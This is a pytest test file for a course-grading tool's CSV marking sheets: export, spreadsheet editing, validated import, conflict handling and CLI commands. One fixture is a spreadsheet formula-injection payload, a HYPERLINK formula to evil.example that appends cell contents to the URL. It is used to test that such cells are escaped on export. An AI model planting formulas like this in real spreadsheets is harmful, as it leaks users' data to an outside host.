"""Marking sheets: export -> edit in a spreadsheet -> import; every bad row refused with its row
named and the database unchanged; formula injection guarded; the CLI commands."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from typer.testing import CliRunner

from grader.cli import app
from grader.config import load_config
from grader.marking.final import load_results
from grader.marking.sheet import (
    SheetError,
    export_sheet,
    guard_cell,
    import_sheet,
    unguard_cell,
)
from grader.marking.store import MarkChange, MarkConflict, MarkStore
from grader.records import Answer, SubmissionResult
from tests.test_marks_store import table_dump

CONFIG = load_config()
QUESTION = CONFIG.questions[1]          # three +1 items in the reference config
EVIL_ANSWER = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SUBMISSIONS = ["alice", "bob", "carol", "dave"]


def write_result(out: Path, submission: str, texts: dict[str, str]) -> None:
    answers = [
        Answer(id=q.id, found=q.id in texts, text=texts.get(q.id, ""), words=len(texts.get(q.id, "").split()),
               limit=q.limit, max_points=q.points, over_limit=len(texts.get(q.id, "").split()) > q.limit)
        for q in CONFIG.questions
    ]
    result = SubmissionResult(submission=submission, status="graded", score=12.0,
                              max_score=CONFIG.max_auto_points, answers=answers)
    (out / submission).mkdir(parents=True, exist_ok=True)
    (out / submission / "result.json").write_text(result.model_dump_json())


@pytest.fixture
def out(tmp_path: Path) -> Path:
    out = tmp_path / "out"
    for name in SUBMISSIONS:
        texts = {q.id: f"{name} says, about {q.id}: the KL term matters" for q in CONFIG.questions}
        if name == "carol":
            texts[QUESTION.id] = EVIL_ANSWER
        if name == "dave":
            del texts[QUESTION.id]          # a missing answer
        write_result(out, name, texts)
    return out


def store_of(out: Path, marker: str = "alice_ta") -> MarkStore:
    store = MarkStore(out, CONFIG, marker=marker)
    store.sync_answers(load_results(out)[0])
    return store



def read_sheet(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        records = list(csv.reader(handle))
    return records[0], [dict(zip(records[0], r)) for r in records[1:]]


def write_sheet(path: Path, header: list[str], rows: list[dict[str, str]], delimiter: str = ",", bom: bool = True) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\r\n")
    writer.writerow(header)
    writer.writerows([[row.get(h, "") for h in header] for row in rows])
    path.write_bytes(buffer.getvalue().encode("utf-8-sig" if bom else "utf-8"))
    return path


def exported(out: Path, tmp_path: Path) -> tuple[list[str], list[dict[str, str]], list[str]]:
    """The question's sheet as exported: header, rows by submission, and the item columns."""
    path = tmp_path / "sheet.csv"
    export_sheet(out, CONFIG, QUESTION.id, path, log=lambda _: None)
    header, rows = read_sheet(path)
    return header, rows, [h for h in header if h.startswith("[")]


def by_submission(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {unguard_cell(r["submission"]): r for r in rows}


# --- export -------------------------------------------------------------------------------------


def test_export_has_every_answer_its_flags_and_the_rubric(out, tmp_path):
    store = store_of(out)
    item = store.rubric(QUESTION.id)[1]
    store.apply_item(item.id, ["bob"])
    store.set_mark("bob", QUESTION.id, adjustment=0.5, comment="nice")
    header, rows, items = exported(out, tmp_path)
    assert header[:6] == ["submission", "question", "answer", "words", "limit", "flags"]
    assert header[-7:] == ["adjustment", "comment", "points", "max_points", "marked_by", "marked_at", "version"]
    assert items == [f"[{i.id}] +{i.points:g} {i.text}" for i in store.rubric(QUESTION.id)]
    rows = by_submission(rows)
    assert sorted(rows) == SUBMISSIONS
    assert rows["dave"]["flags"] == "missing" and rows["alice"]["flags"] == ""
    bob = rows["bob"]
    assert [bob[h] for h in items] == ["", "x", ""]
    assert (bob["adjustment"], bob["comment"], bob["points"], bob["marked_by"]) == ("0.5", "nice", "1.5", "alice_ta")
    assert bob["version"] == "2" and bob["max_points"] == f"{QUESTION.points:g}"
    assert rows["alice"]["points"] == rows["alice"]["adjustment"] == rows["alice"]["version"] == ""


def test_export_to_stdout_is_the_file_without_its_bom(out, tmp_path, capsys):
    export_sheet(out, CONFIG, QUESTION.id, None, log=lambda _: None)
    printed = capsys.readouterr().out
    path = tmp_path / "sheet.csv"
    export_sheet(out, CONFIG, QUESTION.id, path, log=lambda _: None)
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data[3:].decode("utf-8") == printed


def test_export_syncs_answers_from_the_results(out, tmp_path):
    write_result(out, "erin", {QUESTION.id: "a late submission"})
    _, rows, _ = exported(out, tmp_path)
    assert by_submission(rows)["erin"]["answer"] == "a late submission"


def test_formula_injection_is_guarded_and_round_trips(out, tmp_path):
    header, rows, items = exported(out, tmp_path)
    carol = by_submission(rows)["carol"]
    assert carol["answer"] == "'" + EVIL_ANSWER
    assert all(not cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    carol["comment"] = "'-1: a formula is not an answer"     # as exported, guarded
    by_submission(rows)["alice"]["comment"] = "'quoted' on purpose"   # a real apostrophe stays
    import_sheet(out, CONFIG, write_sheet(tmp_path / "edited.csv", header, rows), log=lambda _: None)
    store = store_of(out)
    assert store.mark("carol", QUESTION.id).comment == "-1: a formula is not an answer"
    assert store.mark("alice", QUESTION.id).comment == "'quoted' on purpose"
    assert guard_cell("@SUM(A1)") == "'@SUM(A1)" and unguard_cell("'@SUM(A1)") == "@SUM(A1)"
    assert guard_cell("\tx") == "'\tx" and unguard_cell("'plain") == "'plain"


# --- round trip ---------------------------------------------------------------------------------


@pytest.mark.parametrize("delimiter,bom", [(",", True), (";", True), (";", False)])
def test_round_trip_applies_exactly_what_the_sheet_says(out, tmp_path, delimiter, bom):
    store = store_of(out)
    rubric = store.rubric(QUESTION.id)
    store.apply_item(rubric[2].id, ["bob", "carol"])        # bob's will be replaced, carol's cleared
    store.set_mark("carol", QUESTION.id, comment="first look")
    header, rows, items = exported(out, tmp_path)
    rows_by = by_submission(rows)
    rows_by["alice"].update({items[0]: "x", items[1]: "X", "comment": "good\r\nsecond line"})
    rows_by["bob"].update({items[0]: "x", items[2]: "", "adjustment": "0,5" if delimiter == ";" else "0.5"})
    rows_by["carol"].update({items[2]: "", "comment": "", "adjustment": "", "points": ""})
    # dave stays empty: unmarked
    report = import_sheet(out, CONFIG, write_sheet(tmp_path / "edited.csv", header, rows, delimiter, bom),
                          marker="bob_ta", log=lambda _: None)
    assert (report.applied, report.cleared, report.unchanged, report.left_unmarked) == (2, 1, 0, 1)
    store = store_of(out)
    alice, bob = store.mark("alice", QUESTION.id), store.mark("bob", QUESTION.id)
    assert alice.items == [rubric[0].id, rubric[1].id] and alice.comment == "good\nsecond line" and alice.points == 2
    assert bob.items == [rubric[0].id] and bob.adjustment == 0.5 and bob.points == 1.5 and bob.marker == "bob_ta"
    assert store.mark("carol", QUESTION.id) is None and store.mark("dave", QUESTION.id) is None
    assert "2 applied, 1 cleared, 0 unchanged, 1 left unmarked" in str(report)
    # the same sheet again changes nothing (and is no conflict, though the versions moved on)
    before = table_dump(out / "marks.sqlite")
    again = import_sheet(out, CONFIG, tmp_path / "edited.csv", log=lambda _: None)
    assert (again.applied, again.cleared, again.unchanged, again.left_unmarked) == (0, 0, 2, 2)
    assert table_dump(out / "marks.sqlite") == before


def test_items_are_matched_by_id_when_their_text_changed(out, tmp_path):
    store = store_of(out)
    header, rows, items = exported(out, tmp_path)
    item = store.rubric(QUESTION.id)[0]
    store.update_item(item.id, text="renamed after the export", points=0.5)
    by_submission(rows)["alice"][items[0]] = "x"
    import_sheet(out, CONFIG, write_sheet(tmp_path / "edited.csv", header, rows), log=lambda _: None)
    assert store.mark("alice", QUESTION.id).items == [item.id] and store.mark("alice", QUESTION.id).points == 0.5


def test_edited_answers_and_points_are_ignored_and_counted(out, tmp_path):
    header, rows, items = exported(out, tmp_path)
    rows_by = by_submission(rows)
    rows_by["alice"].update({"answer": "staff typed here by accident", items[0]: "x", "points": "3"})
    rows_by["bob"].update({"answer": rows_by["bob"]["answer"] + "  \r\n", items[1]: "x", "points": "1"})
    header.append("my notes")
    rows_by["bob"]["my notes"] = "ask about this one"
    report = import_sheet(out, CONFIG, write_sheet(tmp_path / "edited.csv", header, rows), log=lambda _: None)
    assert (report.answers_edited, report.points_edited) == (1, 1)
    assert report.ignored_columns == ("my notes",)
    store = store_of(out)
    assert store.mark("alice", QUESTION.id).points == 1
    assert store.answer("alice", QUESTION.id)["text"].startswith("alice says")
    text = str(report)
    assert "1 row(s) have an answer text that differs" in text and "points are derived" in text and "my notes" in text


def test_rows_left_out_of_the_sheet_are_not_touched(out, tmp_path):
    store = store_of(out)
    store.set_mark("dave", QUESTION.id, comment="missing answer, 0 points")
    header, rows, items = exported(out, tmp_path)
    kept = [r for r in rows if r["submission"] == "alice"]
    kept[0][items[0]] = "x"
    report = import_sheet(out, CONFIG, write_sheet(tmp_path / "edited.csv", header, kept), log=lambda _: None)
    assert report.rows == 1 and report.applied == 1
    assert store.mark("dave", QUESTION.id).comment == "missing answer, 0 points"


# --- refused sheets -----------------------------------------------------------------------------


def edit_unknown_submission(header, rows, items):
    rows[1]["submission"] = "mallory"
    return "row 3: unknown submission 'mallory'"


def edit_unknown_question(header, rows, items):
    for row in rows:
        row["question"] = "Q99"
    return "row 2: unknown question 'Q99'"


def edit_second_question(header, rows, items):
    rows[2]["question"] = CONFIG.questions[0].id
    return f"row 4: question '{CONFIG.questions[0].id}', but this sheet is {QUESTION.id}'s"


def edit_adjustment_out_of_range(header, rows, items):
    rows[0]["adjustment"] = f"{QUESTION.points + 1:g}"
    return f"row 2: adjustment {QUESTION.points + 1:g} is out of range"


def edit_adjustment_not_a_number(header, rows, items):
    rows[3]["adjustment"] = "half"
    return "row 5: adjustment 'half' is not a number"


def edit_bad_item_cell(header, rows, items):
    rows[2][items[1]] = "yes"
    return f"row 4: column '{items[1]}': 'yes'; mark an item with x or leave it empty"


def edit_unknown_item_column(header, rows, items):
    header.insert(header.index("adjustment"), "[9999] +1 an item from another course")
    rows[0]["[9999] +1 an item from another course"] = "x"
    return "row 1: column '[9999] +1 an item from another course'"


def edit_duplicate_submission(header, rows, items):
    rows.append(dict(rows[0], comment="again"))
    return f"row {len(rows) + 1}: submission 'alice' is also in row 2"


def edit_points_only(header, rows, items):
    rows[0]["points"] = "2"
    return "row 2: points 2 but no item, adjustment or comment"


def edit_missing_columns(header, rows, items):
    header.remove("adjustment")
    return "row 1: the header lacks the required column(s) adjustment"


BAD_EDITS = [edit_unknown_submission, edit_unknown_question, edit_second_question, edit_adjustment_out_of_range,
             edit_adjustment_not_a_number, edit_bad_item_cell, edit_unknown_item_column, edit_duplicate_submission,
             edit_points_only, edit_missing_columns]


@pytest.mark.parametrize("edit", BAD_EDITS, ids=lambda e: e.__name__.removeprefix("edit_"))
def test_a_bad_row_refuses_the_whole_sheet(out, tmp_path, edit):
    store = store_of(out)
    store.apply_item(store.rubric(QUESTION.id)[0].id, ["carol"])
    header, rows, items = exported(out, tmp_path)
    rows.sort(key=lambda r: unguard_cell(r["submission"]))       # alice, bob, carol, dave: rows 2..5
    rows[1][items[2]] = "x"                                      # a valid change that must not be applied
    expected = edit(header, rows, items)
    path = write_sheet(tmp_path / "edited.csv", header, rows)
    before = table_dump(out / "marks.sqlite")
    with pytest.raises(SheetError) as caught:
        import_sheet(out, CONFIG, path, log=lambda _: None)
    message = str(caught.value)
    assert str(path) in message and "nothing was imported" in message and expected in message, message
    assert table_dump(out / "marks.sqlite") == before


def test_every_bad_row_is_listed_up_to_a_cap(out, tmp_path):
    for i in range(30):
        write_result(out, f"extra{i:02d}", {QUESTION.id: "an answer"})
    header, rows, items = exported(out, tmp_path)
    for row in rows:
        row["adjustment"] = "lots"
    path = write_sheet(tmp_path / "edited.csv", header, rows)
    with pytest.raises(SheetError) as caught:
        import_sheet(out, CONFIG, path, log=lambda _: None)
    message = str(caught.value)
    assert f"{len(rows)} problem(s)" in message and message.count("is not a number") == 20
    assert f"... and {len(rows) - 20} more" in message and "row 2:" in message and "row 21:" in message


def test_a_mark_changed_since_the_export_is_a_conflict(out, tmp_path):
    store = store_of(out)
    header, rows, items = exported(out, tmp_path)
    store_of(out, marker="other_ta").set_mark("bob", QUESTION.id, comment="mine")   # after the export
    by_submission(rows)["bob"][items[0]] = "x"
    by_submission(rows)["alice"][items[0]] = "x"
    path = write_sheet(tmp_path / "edited.csv", header, rows)
    before = table_dump(out / "marks.sqlite")
    with pytest.raises(SheetError, match=r"row \d: bob's mark was changed by other_ta .* export the sheet again"):
        import_sheet(out, CONFIG, path, log=lambda _: None)
    assert table_dump(out / "marks.sqlite") == before
    assert store.mark("bob", QUESTION.id).comment == "mine"


@pytest.mark.parametrize("content,expected", [
    ("submission,question,adjustment,comment\nalice,Q2,1,caf\xe9\n".encode("latin-1"), "not UTF-8 text"),
    ("submission,question\r\nalice,Q2\r\n".encode("utf-16"), "UTF-16 text"),
    (b"", "empty file"),
    (b"name,score\nalice,3\n", "row 1: the header lacks the required columns"),
])
def test_files_that_are_not_marking_sheets(out, tmp_path, content, expected):
    path = tmp_path / "sheet.csv"
    path.write_bytes(content)
    store_of(out)
    before = table_dump(out / "marks.sqlite")
    with pytest.raises(SheetError) as caught:
        import_sheet(out, CONFIG, path, log=lambda _: None)
    assert str(path) in str(caught.value) and expected in str(caught.value)
    assert table_dump(out / "marks.sqlite") == before


def test_apply_marks_is_one_transaction(out):
    """A conflict found inside the batch (another marker's write between validation and
    applying) rolls back the changes made before it in the same batch."""
    store = store_of(out)
    item = store.rubric(QUESTION.id)[0].id
    store.set_mark("bob", QUESTION.id, comment="by someone else")       # version 1
    before = table_dump(out / "marks.sqlite")
    with pytest.raises(MarkConflict):
        store.apply_marks(QUESTION.id, [MarkChange("alice", items=(item,), base_version=0),
                                        MarkChange("bob", items=(item,), base_version=0)])
    assert table_dump(out / "marks.sqlite") == before


# --- the CLI ------------------------------------------------------------------------------------


def test_cli_export_and_import(out, tmp_path):
    runner = CliRunner()
    result = runner.invoke(app, ["marks", "export", str(out), "--question", QUESTION.id])
    assert result.exit_code == 0, result.output
    records = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert records[0][0] == "submission" and len(records) == 1 + len(SUBMISSIONS)
    path = tmp_path / "q.csv"
    result = runner.invoke(app, ["marks", "export", str(out), "--question", QUESTION.id, "-o", str(path)])
    assert result.exit_code == 0 and path.exists()
    header, rows = read_sheet(path)
    item = [h for h in header if h.startswith("[")][0]
    by_submission(rows)["alice"][item] = "x"
    write_sheet(path, header, rows)
    result = runner.invoke(app, ["marks", "import", str(out), str(path), "--marker", "cli_ta"])
    assert result.exit_code == 0, result.output
    assert "1 applied" in result.output
    assert store_of(out).mark("alice", QUESTION.id).marker == "cli_ta"
    by_submission(rows)["bob"][item] = "?"
    write_sheet(path, header, rows)
    result = runner.invoke(app, ["marks", "import", str(out), str(path)])
    assert result.exit_code == 2 and "row 3:" in result.output and "nothing was imported" in result.output


def test_cli_unknown_question(out):
    result = CliRunner().invoke(app, ["marks", "export", str(out), "--question", "Q42"])
    assert result.exit_code == 2 and "unknown question 'Q42'" in result.output
